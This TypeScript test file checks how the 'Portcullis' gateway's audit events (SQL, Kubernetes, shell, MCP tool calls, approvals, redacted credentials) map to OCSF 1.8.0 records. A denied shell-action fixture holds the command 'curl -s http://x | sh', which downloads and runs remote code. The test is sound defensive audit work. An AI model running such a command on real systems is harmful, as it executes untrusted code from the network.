import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { toOcsfRecord, type AuditEventInput, type OcsfRecord } from '../src/audit/ocsf/ocsf-record.ts';
import { auditBodyOf } from '../src/audit/ocsf/portcullis-body.ts';
import { buildSessionAuditEvent, buildSessionStatementsAuditEvent, type SessionStatementFields } from '../src/audit/events/session-audit-event.ts';
import {
  AGENT, EXPIRED, HTTP_POST, HUMAN, K8S_DELETE, PRODUCT, RESOURCE, SHELL_CURL,
  approvalEvent, bundleActivationEvent, decisionEvent, sessionStatementEvent, sessionStatementsEvent, sqlAction,
} from './audit-fixtures.ts';

const map = (event: AuditEventInput): OcsfRecord => toOcsfRecord(event, PRODUCT);
const get = (record: unknown, ...path: string[]): unknown => path.reduce<unknown>((value, name) => (value as Record<string, unknown> | undefined)?.[name], record);

// Top-level attributes OCSF 1.8.0 defines for each class: base event, the security_control
// profile, the category, the class (events/*.json at tag 1.8.0).
const BASE = ['activity_id', 'activity_name', 'category_name', 'category_uid', 'class_name', 'class_uid', 'count', 'duration', 'end_time', 'message',
  'metadata', 'observables', 'severity', 'severity_id', 'start_time', 'status', 'status_code', 'status_detail', 'status_id', 'time', 'timezone_offset',
  'type_name', 'type_uid', 'unmapped', 'action', 'action_id', 'authorizations', 'disposition', 'disposition_id', 'is_alert', 'policy'];
const CLASS_ATTRIBUTES: Record<number, string[]> = {
  6005: ['actor', 'database', 'databucket', 'dst_endpoint', 'http_request', 'http_response', 'query_info', 'src_endpoint', 'table', 'type', 'type_id'],
  6003: ['actor', 'api', 'dst_endpoint', 'http_request', 'http_response', 'resources', 'src_endpoint'],
  1007: ['actor', 'device', 'process', 'exit_code', 'launch_type_id'],
  3005: ['actor', 'http_request', 'src_endpoint', 'privileges', 'resources', 'user'],
};
const CLASS_REQUIRED: Record<number, string[]> = {
  6005: ['actor', 'src_endpoint'], 6003: ['actor', 'api', 'src_endpoint'], 1007: ['actor', 'device', 'process'], 3005: ['privileges', 'user'],
};

function assertValidOcsf(record: OcsfRecord): void {
  for (const name of ['activity_id', 'category_uid', 'class_uid', 'severity_id', 'time', 'type_uid']) {
    assert.equal(typeof record[name], 'number', `${name} is required`);
  }
  assert.equal(record.type_uid, record.class_uid * 100 + record.activity_id);
  assert.equal(record.category_uid, Math.floor(record.class_uid / 1000));
  assert.equal(record.metadata.version, '1.8.0');
  assert.deepEqual(record.metadata.product, { name: 'Portcullis', vendor_name: 'Portcullis', version: PRODUCT.version });
  assert.match(record.metadata.log_name, /^portcullis\.(decisions|sessions|approvals)\.v1$/);
  assert.ok(record.metadata.uid);
  assert.ok(Array.isArray(record.metadata.profiles));
  const allowed = new Set([...BASE, ...(CLASS_ATTRIBUTES[record.class_uid] ?? [])]);
  for (const name of Object.keys(record)) assert.ok(allowed.has(name), `class ${record.class_uid} does not define ${name}`);
  for (const name of CLASS_REQUIRED[record.class_uid] ?? []) assert.ok(record[name] !== undefined, `class ${record.class_uid} requires ${name}`);
  if (record.class_uid === 6005) assert.ok(record.database || record.table, 'Datastore Activity needs database, databucket or table');
  if (record.class_uid === 6003) assert.equal(typeof get(record, 'api', 'operation'), 'string');
  if (record.class_uid === 1007) {
    assert.ok(get(record, 'process', 'uid') || get(record, 'process', 'pid'), 'process needs pid, uid or cpid');
    assert.equal(typeof get(record, 'device', 'type_id'), 'number');
  }
  const user = get(record, 'actor', 'user') as Record<string, unknown> | undefined;
  if (user) assert.ok(user.uid || user.name, 'user needs uid or name');
  if (record.action_id !== undefined || record.disposition_id !== undefined) assert.deepEqual(record.metadata.profiles, ['security_control']);
}

describe('OCSF mapping', () => {
  test('an allowed SQL select is a Datastore Activity Query with every required base attribute', () => {
    const event = decisionEvent({ action: sqlAction('SELECT id FROM orders', 'select'), session: { id: 'sess-9', client_addr: '10.0.0.8' } });
    const record = map(event);
    assertValidOcsf(record);
    assert.equal(record.class_uid, 6005);
    assert.equal(record.activity_id, 4);
    assert.equal(record.type_uid, 600504);
    assert.equal(record.type_name, 'Datastore Activity: Query');
    assert.equal(record.severity_id, 1);
    assert.equal(record.status_id, 1);
    assert.equal(record.action_id, 1);
    assert.equal(record.disposition_id, 1);
    assert.equal(record.time, Date.parse(event.body.time as string));
    assert.equal(record.metadata.uid, event.body.decision_id);
    assert.equal(record.metadata.log_name, 'portcullis.decisions.v1');
    assert.equal(record.metadata.correlation_uid, 'sess-9');
    assert.equal(get(record, 'query_info', 'query_string'), 'SELECT id FROM orders');
    assert.deepEqual(record.database, { name: 'orders-db', type_id: 1, type: 'Relational' });
    assert.deepEqual(record.table, { name: 'orders' });
    assert.deepEqual(record.src_endpoint, { ip: '10.0.0.8' });
    assert.deepEqual(get(record, 'actor', 'user'), { uid: 'agent-7', name: 'agent-7', type_id: 4, type: 'Service', groups: [{ name: 'reader', type: 'role' }, { name: 'writer', type: 'role' }] });
    assert.deepEqual(get(record, 'actor', 'idp'), { name: 'https://idp.example.test' });
    assert.deepEqual(record.policy, { name: 'portcullis', is_applied: true, uid: 'rev-42', version: 'rev-42' });
  });

  test('deny is a blocked failure of medium severity with the reason code; approval_required is 99 of low severity', () => {
    const denied = map(decisionEvent({ effect: 'deny', action: sqlAction('DELETE FROM orders', 'delete') }));
    assertValidOcsf(denied);
    assert.deepEqual([denied.status_id, denied.status, denied.severity_id, denied.severity], [2, 'Failure', 3, 'Medium']);
    assert.deepEqual([denied.action_id, denied.action, denied.disposition_id, denied.disposition], [2, 'Denied', 2, 'Blocked']);
    assert.equal(denied.status_code, 'sql-delete-without-where');
    assert.match(denied.message, /^deny sql on orders-db for agent-7: DELETE FROM orders \[sql-delete-without-where\]$/);

    const held = map(decisionEvent({ effect: 'approval_required', action: sqlAction('UPDATE orders SET x = 1 WHERE id = 2', 'update') }));
    assertValidOcsf(held);
    assert.deepEqual([held.status_id, held.status, held.severity_id], [99, 'Approval Required', 2]);
    assert.deepEqual([held.action_id, held.action, held.disposition_id, held.disposition], [99, 'Approval Required', 99, 'Approval Required']);
    assert.equal(held.activity_id, 2);
  });

  test('SQL activities follow the most consequential statement, and EXPLAIN without ANALYZE stays a query', () => {
    const activity = (action: ReturnType<typeof sqlAction>): [number, string] => {
      const record = map(decisionEvent({ action }));
      assertValidOcsf(record);
      return [record.activity_id, record.activity_name];
    };
    assert.deepEqual(activity(sqlAction('INSERT INTO orders VALUES (1)', 'insert')), [6, 'Create']);
    assert.deepEqual(activity(sqlAction('UPDATE orders SET a = 1 WHERE id = 1', 'update')), [2, 'Update']);
    assert.deepEqual(activity(sqlAction('DELETE FROM orders WHERE id = 1', 'delete')), [7, 'Delete']);
    assert.deepEqual(activity(sqlAction('TRUNCATE orders', 'truncate')), [7, 'Delete']);
    assert.deepEqual(activity(sqlAction('DROP TABLE orders', 'ddl')), [99, 'DDL']);
    assert.deepEqual(activity(sqlAction('COPY orders FROM STDIN', 'copy', 'orders', { copy: { program: false, filename: null, is_from: true } })), [5, 'Write']);
    assert.deepEqual(activity(sqlAction('EXPLAIN DELETE FROM orders', 'explain', 'orders', { operations: [{ kind: 'delete', table: 'orders' }] })), [4, 'Query']);
    // A CTE that deletes makes the whole statement a delete.
    assert.deepEqual(activity(sqlAction('WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d', 'select', 'orders', { operations: [{ kind: 'select' }, { kind: 'delete', table: 'orders' }] })), [7, 'Delete']);
    const several = sqlAction('SELECT 1; UPDATE orders SET a = 1 WHERE id = 1', 'select');
    (several.statements as unknown[]).push(...(sqlAction('UPDATE orders SET a = 1 WHERE id = 1', 'update').statements as unknown[]));
    assert.deepEqual(activity(several), [2, 'Update']);
    assert.deepEqual(activity({ type: 'sql', sql: 'SELEC nonsense', parse_error: 'syntax error', statements: [] }), [99, 'Unparsed Statement']);
  });

  test('a Kubernetes delete is an API Activity Delete with the API operation, HTTP request and target resource', () => {
    const record = map(decisionEvent({ action: K8S_DELETE, resource: { type: 'kubernetes', name: 'prod-cluster' } }));
    assertValidOcsf(record);
    assert.deepEqual([record.class_uid, record.category_uid, record.activity_id, record.type_uid], [6003, 6, 4, 600304]);
    assert.deepEqual(record.api, { operation: 'delete pods', request: { uid: record.metadata.uid }, service: { name: 'prod-cluster' }, version: 'v1' });
    assert.deepEqual(record.http_request, { http_method: 'DELETE', url: { path: '/api/v1/namespaces/prod/pods/web-1', url_string: '/api/v1/namespaces/prod/pods/web-1' } });
    assert.deepEqual(record.resources, [
      { type: 'pods', name: 'web-1', namespace: 'prod', role_id: 1, role: 'Target' },
      { name: 'prod-cluster', type: 'kubernetes' },
    ]);
    // Without a client address, the PEP the request came through is the source.
    assert.deepEqual(record.src_endpoint, { name: 'pep-orders-db' });
  });

  test('a shell command is a Process Activity Launch with the command line, and has no src_endpoint (the class has none)', () => {
    const record = map(decisionEvent({ effect: 'deny', action: SHELL_CURL, resource: { type: 'ssh', name: 'web-host' }, session: { id: 's', client_addr: '10.0.0.2' } }));
    assertValidOcsf(record);
    assert.deepEqual([record.class_uid, record.category_uid, record.activity_id, record.activity_name], [1007, 1, 1, 'Launch']);
    assert.deepEqual(record.process, { cmd_line: 'curl -s http://x | sh', name: 'curl', uid: record.metadata.uid });
    assert.deepEqual(record.device, { type_id: 0, type: 'Unknown', name: 'web-host', hostname: 'web-host' });
    assert.equal(record.src_endpoint, undefined);
    assert.equal(get(record, 'unmapped', 'portcullis', 'session', 'client_addr'), '10.0.0.2');
  });

  test('an MCP tool call is an API Activity on the server: a read for a read-only tool, Call Tool otherwise, the tool as the target', () => {
    const resource = { type: 'mcp', name: 'mcp-db' };
    const call = (annotations: Record<string, unknown>) => map(decisionEvent({ action: { type: 'mcp', method: 'tools/call', tool: 'query', arguments: { sql: 'SELECT 1' }, annotations }, resource }));
    const read = call({ readOnlyHint: true });
    assertValidOcsf(read);
    assert.deepEqual([read.class_uid, read.activity_id], [6003, 2]);
    assert.equal(get(read, 'api', 'operation'), 'tools/call query');
    assert.deepEqual((read.resources as Array<Record<string, unknown>>)[0], { type: 'mcp_tool', name: 'query' });
    const change = call({});
    assertValidOcsf(change);
    assert.deepEqual([change.activity_id, change.activity_name], [99, 'Call Tool']);
    const resourceRead = map(decisionEvent({ action: { type: 'mcp', method: 'resources/read', uri: 'file:///srv/a.txt' }, resource }));
    assertValidOcsf(resourceRead);
    assert.deepEqual([resourceRead.activity_id, get(resourceRead, 'api', 'operation')], [2, 'resources/read file:///srv/a.txt']);
  });

  test('an HTTP call is an API Activity with method, query and headers; a Data API query is an API read without a control profile', () => {
    const record = map(decisionEvent({ action: HTTP_POST, resource: { type: 'http', name: 'refunds-api' } }));
    assertValidOcsf(record);
    assert.deepEqual([record.class_uid, record.activity_id], [6003, 1]);
    assert.equal(get(record, 'api', 'operation'), 'POST /v1/refunds');
    assert.deepEqual(get(record, 'http_request', 'url'), { path: '/v1/refunds', query_string: 'dry_run=true', url_string: '/v1/refunds?dry_run=true' });
    assert.deepEqual(get(record, 'http_request', 'http_headers'), [{ name: 'content-type', value: 'application/json' }]);

    const query = map({ stream: 'decisions', body: {
      event: 'data-query', schema_version: 1, decision_id: 'dq-1', time: '2026-11-25T10:00:00.000Z',
      path: 'portcullis/decision', input: { action: { type: 'sql' } }, result: { effect: 'allow' }, pep: { sub: 'pep-a' }, policy_revision: 'rev-1',
    } });
    assertValidOcsf(query);
    assert.deepEqual([query.class_uid, query.activity_id, query.status_id], [6003, 2, 1]);
    assert.equal(get(query, 'api', 'operation'), 'query');
    assert.equal(get(query, 'http_request', 'url', 'path'), '/v1/data/portcullis/decision');
    assert.deepEqual(get(query, 'actor', 'user'), { uid: 'pep-a', name: 'pep-a', type_id: 4, type: 'Service' });
    assert.deepEqual(query.metadata.profiles, []);
    assert.equal(query.action_id, undefined);
  });

  test('humans are users (type 1), agents service accounts (type 4), and a failed token an unknown user named by its error', () => {
    assert.equal(get(map(decisionEvent({ verification: HUMAN })), 'actor', 'user', 'type_id'), 1);
    assert.equal(get(map(decisionEvent({ verification: AGENT })), 'actor', 'user', 'type_id'), 4);
    const anonymous = map(decisionEvent({ effect: 'deny', verification: EXPIRED, reasons: [{ code: 'token-expired', message: 'expired' }] }));
    assertValidOcsf(anonymous);
    assert.deepEqual(get(anonymous, 'actor', 'user'), { name: 'unauthenticated', type_id: 0, type: 'Unknown' });
    assert.equal(get(anonymous, 'actor', 'idp'), undefined);
    assert.match(anonymous.message, /unauthenticated caller \(token-expired\)/);
  });

  test('sessions map by protocol: SQL connect, statement with timing and size, disconnect with duration', () => {
    const common = {
      session: { id: 'sess-1', client_addr: '[::1]:5432' }, protocol: 'sql' as const, resource: RESOURCE, pep: { sub: 'pep-orders-db' },
      principal: { authenticated: true as const, sub: 'agent-7', iss: 'https://idp.example.test', kind: 'agent' as const, roles: [] },
    };
    const start = map(buildSessionAuditEvent({ ...common, event: 'session.start', eventId: 'e1', time: new Date('2026-11-25T10:00:00Z') }));
    assertValidOcsf(start);
    assert.deepEqual([start.class_uid, start.activity_id, start.activity_name, start.metadata.log_name], [6005, 3, 'Connect', 'portcullis.sessions.v1']);
    assert.deepEqual(start.src_endpoint, { ip: '::1', port: 5432 });
    assert.equal(start.metadata.correlation_uid, 'sess-1');
    assert.equal(start.metadata.uid, 'e1');

    const statement = map(sessionStatementEvent('SELECT email FROM users', 4));
    assertValidOcsf(statement);
    assert.deepEqual([statement.class_uid, statement.activity_id, statement.status_id], [6005, 4, 1]);
    // query_time is when the statement ran (a timestamp); how long it took is the record's duration.
    assert.deepEqual(statement.query_info, { query_string: 'SELECT email FROM users', uid: 'dec-stmt', query_time: Date.parse('2026-11-25T10:00:01.000Z'), bytes: 512 });
    assert.equal(statement.duration, 12);
    assert.equal(get(statement, 'unmapped', 'portcullis', 'masked_cells'), 4);
    assert.equal(get(statement, 'unmapped', 'portcullis', 'rows'), 3);
    assert.deepEqual(statement.metadata.profiles, []);

    const end = map(buildSessionAuditEvent({ ...common, event: 'session.end', time: new Date('2026-11-25T10:01:00Z'), durationMs: 60_000, statements: 5, rows: 10, bytes: 2048, maskedCells: 4, reason: 'client-closed' }));
    assertValidOcsf(end);
    assert.deepEqual([end.activity_id, end.activity_name, end.duration, end.status_detail], [99, 'Disconnect', 60_000, 'client-closed']);
    assert.equal(end.start_time, Date.parse('2026-11-25T10:00:00Z'));
    assert.equal(end.end_time, Date.parse('2026-11-25T10:01:00Z'));

    const shellStart = map(buildSessionAuditEvent({ ...common, protocol: 'shell', resource: { type: 'ssh', name: 'web-host' }, event: 'session.start' }));
    assertValidOcsf(shellStart);
    assert.deepEqual([shellStart.class_uid, shellStart.activity_id], [1007, 1]);
    const apiEnd = map(buildSessionAuditEvent({ ...common, protocol: 'kubernetes', event: 'session.end', durationMs: 5, statements: 0, rows: 0, bytes: 0, maskedCells: 0 }));
    assertValidOcsf(apiEnd);
    assert.deepEqual([apiEnd.class_uid, apiEnd.activity_id, apiEnd.activity_name], [6003, 99, 'Session End']);
  });

  test('a run of statements (session.statements) is one record of the statements\' class: count, totals, time span, every entry kept', () => {
    const event = sessionStatementsEvent(['SELECT email FROM users', 'SELECT 2', 'SELECT 3'], [4, 0, 1]);
    const run = map(event);
    assertValidOcsf(run);
    assert.deepEqual([run.class_uid, run.activity_id, run.activity_name, run.status_id, run.severity_id], [6005, 4, 'Query', 1, 1]);
    assert.equal(run.metadata.uid, event.body.event_id, 'the record\'s own id, not a statement\'s');
    assert.deepEqual([run.metadata.event_code, run.metadata.correlation_uid, run.metadata.log_name], ['session.statements', 'sess-1', 'portcullis.sessions.v1']);
    assert.equal(run.message, 'session sess-1 ran 3 statements on orders-db by agent-7');
    // duration is the span the run covers (end_time - start_time); the summed run time is in totals.
    assert.deepEqual([run.count, run.duration, run.start_time, run.end_time], [3, 20, Date.parse('2026-11-25T10:00:02.000Z'), Date.parse('2026-11-25T10:00:02.020Z')]);
    assert.equal(run.time, run.start_time);
    assert.deepEqual(run.query_info, { query_string: 'SELECT email FROM users\nSELECT 2\nSELECT 3', uid: event.body.event_id, query_time: Date.parse('2026-11-25T10:00:02.000Z'), bytes: 300 });
    assert.deepEqual(run.src_endpoint, { ip: '10.1.2.3', port: 51234 });
    const entries = get(run, 'unmapped', 'portcullis', 'statements') as Array<Record<string, unknown>>;
    assert.deepEqual(entries.map((entry) => [get(entry, 'statement', 'text'), entry.masked_cells, entry.decision_reused]), [
      ['SELECT email FROM users', 4, undefined], ['SELECT 2', 0, true], ['SELECT 3', 1, true],
    ]);
    assert.deepEqual(get(run, 'unmapped', 'portcullis', 'totals'), { statements: 3, failures: 0, duration_ms: 4.5, rows: 6, bytes: 300, masked_cells: 5 });
    assert.equal(get(run, 'unmapped', 'portcullis', 'chain'), undefined);
  });

  test('a run is a failure when any statement failed, named by the most consequential kind; shell and API runs keep their classes', () => {
    const common = {
      event: 'session.statements' as const, session: { id: 'sess-2' }, pep: { sub: 'pep-1' }, resource: RESOURCE,
      principal: { authenticated: false as const, error: 'token-expired' },
    };
    const entry = (text: string, extra: Partial<SessionStatementFields> = {}): SessionStatementFields => ({ statement: { text }, decisionId: 'd', status: 'success', durationMs: 1, ...extra });
    const mixed = map(buildSessionStatementsAuditEvent({ ...common, protocol: 'sql', statements: [
      entry('SELECT 1', { statement: { text: 'SELECT 1', kind: 'select' } }),
      entry('DELETE FROM orders WHERE id = 1', { statement: { text: 'DELETE FROM orders WHERE id = 1', kind: 'delete' }, status: 'failure', error: 'permission denied for table orders' }),
      entry('UPDATE orders SET qty = 1 WHERE id = 2', { statement: { text: 'UPDATE orders SET qty = 1 WHERE id = 2', kind: 'update' }, status: 'failure', error: 'deadlock detected' }),
    ] }));
    assertValidOcsf(mixed);
    assert.deepEqual([mixed.activity_id, mixed.activity_name, mixed.status_id, mixed.status], [7, 'Delete', 2, 'Failure']);
    assert.equal(mixed.status_detail, '2 of 3 statements failed; the first: permission denied for table orders');
    assert.match(mixed.message, /ran 3 statements on orders-db by an unauthenticated caller \(token-expired\)$/);
    assert.deepEqual(get(mixed, 'actor', 'user'), { name: 'unauthenticated', type_id: 0, type: 'Unknown' });

    const unparsed = map(buildSessionStatementsAuditEvent({ ...common, protocol: 'sql', statements: [entry('x'), entry('y')] }));
    assert.deepEqual([unparsed.activity_id, unparsed.activity_name], [99, 'Unparsed Statement']);

    const shell = map(buildSessionStatementsAuditEvent({ ...common, protocol: 'shell', resource: { type: 'ssh', name: 'web-host' }, statements: [entry('ls -l /tmp'), entry('cat /etc/hostname')] }));
    assertValidOcsf(shell);
    assert.deepEqual([shell.class_uid, shell.activity_id, get(shell, 'process', 'cmd_line'), get(shell, 'process', 'name'), shell.count], [1007, 1, 'ls -l /tmp\ncat /etc/hostname', 'ls', 2]);

    const k8s = { ...common, protocol: 'kubernetes' as const, resource: { type: 'kubernetes', name: 'prod-cluster' } };
    const reads = map(buildSessionStatementsAuditEvent({ ...k8s, statements: [entry('GET /api/v1/pods', { statement: { text: 'GET /api/v1/pods', method: 'GET', path: '/api/v1/pods' } }), entry('GET /api/v1/nodes')] }));
    assertValidOcsf(reads);
    assert.deepEqual([reads.class_uid, reads.activity_id, get(reads, 'api', 'operation')], [6003, 2, 'get /api/v1/pods']);
    const readAndDelete = map(buildSessionStatementsAuditEvent({ ...k8s, statements: [entry('GET /api/v1/pods'), entry('DELETE /api/v1/namespaces/prod/pods/web-1')] }));
    assertValidOcsf(readAndDelete);
    assert.deepEqual([readAndDelete.activity_id, readAndDelete.activity_name], [99, 'Mixed']);
  });

  test('approvals are User Access Management: approved assigns, denied and expired revoke, requested and executed are other', () => {
    const approved = map(approvalEvent('approval.approved', ['bob', 'carol']));
    assertValidOcsf(approved);
    assert.deepEqual([approved.class_uid, approved.category_uid, approved.activity_id, approved.type_uid], [3005, 3, 1, 300501]);
    assert.deepEqual([approved.action_id, approved.disposition_id, approved.disposition, approved.status_id], [1, 8, 'Approved', 1]);
    assert.deepEqual(get(approved, 'actor', 'user'), { uid: 'carol', name: 'carol', type_id: 1, type: 'User', groups: [{ name: 'approver', type: 'role' }] });
    assert.equal(get(approved, 'user', 'uid'), 'agent-7');
    assert.equal(get(approved, 'user', 'type_id'), 4);
    assert.deepEqual(approved.privileges, ['sql: DELETE FROM orders WHERE id = 7']);
    assert.equal(approved.metadata.correlation_uid, 'dec-needs-approval');
    assert.match(approved.message, /\(2\/2 approvals\)$/);

    const denied = map(approvalEvent('approval.denied', ['bob']));
    assert.deepEqual([denied.activity_id, denied.action_id, denied.disposition_id, denied.disposition, denied.status_id, denied.severity_id], [2, 2, 25, 'Rejected', 2, 2]);
    const expired = map(approvalEvent('approval.expired', ['bob']));
    assertValidOcsf(expired);
    assert.deepEqual([expired.activity_id, expired.disposition_id, expired.status_id], [2, 2, 2]);
    assert.deepEqual(expired.actor, { app_name: 'Portcullis' });
    const requested = map(approvalEvent('approval.requested'));
    assertValidOcsf(requested);
    assert.deepEqual([requested.activity_id, requested.activity_name, requested.type_uid, requested.status_id], [99, 'Approval Requested', 300599, 99]);
    assert.equal(get(requested, 'actor', 'user', 'uid'), 'agent-7');
    assert.equal(requested.status_detail, 'refund ticket 123');
    const executed = map(approvalEvent('approval.executed', ['bob', 'carol']));
    assert.deepEqual([executed.activity_id, executed.activity_name, executed.status_id], [99, 'Approval Executed', 1]);
  });

  test('loses no field of the input body: auditBodyOf reads it back whole', () => {
    for (const event of [
      decisionEvent({ effect: 'approval_required', action: K8S_DELETE, mask: [{ table: 'users', column: 'email', strategy: 'redact' }], session: { id: 'x' } }),
      sessionStatementEvent('SELECT 1'),
      approvalEvent('approval.approved', ['bob', 'carol']),
    ]) {
      const record = map(event);
      assert.deepEqual(auditBodyOf(record), JSON.parse(JSON.stringify(event.body)));
    }
  });

  test('credential-named members never reach the record, at any depth, and their paths are listed', () => {
    const secret = 'eyJhbGciOiJIUzI1NiJ9.c2VjcmV0.dG9rZW4';
    const event = decisionEvent({ action: HTTP_POST });
    const body = {
      ...event.body,
      subject_token: secret,
      action: { ...(event.body.action as object), headers: { Authorization: `Bearer ${secret}`, 'X-Api-Key': secret, accept: '*/*' } },
      session: { id: 's', token: secret, nested: [{ password: secret, Cookie: secret }] },
    };
    const record = map({ stream: 'decisions', body });
    const text = JSON.stringify(record);
    assert.ok(!text.includes(secret), 'a credential value reached the record');
    assert.ok(!text.includes('c2VjcmV0'));
    assert.deepEqual([...(record.unmapped.portcullis.redacted ?? [])].sort(), [
      'action.headers.Authorization', 'action.headers.X-Api-Key', 'session.nested[0].Cookie', 'session.nested[0].password', 'session.token', 'subject_token',
    ]);
    assert.deepEqual(get(record, 'http_request', 'http_headers'), [{ name: 'accept', value: '*/*' }]);
    // The decision builder itself never puts the request's subject token in the body.
    assert.ok(!JSON.stringify(decisionEvent().body).includes('secret-token'));
  });

  test('a bundle activation is Entity Management / Activate of a Policy entity: revision, exact digest, source without credentials, signing key', () => {
    const record = map(bundleActivationEvent('rev-7'));
    assert.deepEqual([record.class_uid, record.category_uid, record.activity_id, record.type_uid, record.type_name], [3004, 3, 10, 300410, 'Entity Management: Activate']);
    assert.deepEqual(get(record, 'entity', 'type_id'), 5);
    assert.deepEqual(get(record, 'entity', 'policy', 'uid'), 'rev-7');
    assert.deepEqual(get(record, 'entity', 'policy', 'is_applied'), true);
    assert.equal(get(record, 'entity', 'policy', 'data', 'digest'), `sha256:${'ab'.repeat(32)}`);
    assert.equal(record.metadata.event_code, 'bundle.activated');
    assert.equal(record.metadata.log_name, 'portcullis.decisions.v1');
    assert.match(record.message, /^live policy bundle rev-7 activated \(sha256:(ab){32}, signed by bundle-key-1\) from https:\/\/bundles\.example\.test\/v1\/policy\.tar\.gz\?token=…$/);
    const shadow = map(bundleActivationEvent('rev-8', 'shadow'));
    assert.equal(get(shadow, 'entity', 'policy', 'is_applied'), false);
    assert.equal(get(shadow, 'unmapped', 'portcullis', 'role'), 'shadow');
  });

  test('an unknown event is kept whole as an OCSF Base Event; bodies may not use the reserved member names', () => {
    const record = map({ stream: 'decisions', body: { event: 'audit.overflow', event_id: 'ov-1', time: '2026-11-25T10:00:00Z', dropped: 12 } });
    assert.deepEqual([record.class_uid, record.category_uid, record.activity_id, record.type_uid, record.activity_name], [0, 0, 99, 99, 'audit.overflow']);
    assert.equal(get(record, 'unmapped', 'portcullis', 'dropped'), 12);
    assert.equal(record.metadata.uid, 'ov-1');
    assert.throws(() => map({ stream: 'decisions', body: { event: 'decision', chain: {} } }), /chain/);
  });

  test('the same event always maps to the same record, and later changes to the body do not reach it', () => {
    const event = decisionEvent({ effect: 'deny' });
    const first = map(event);
    assert.deepEqual(map(event), first);
    ((event.body.principal as { roles: string[] }).roles).push('admin');
    assert.deepEqual(get(auditBodyOf(first), 'principal', 'roles'), ['reader', 'writer']);
  });
});
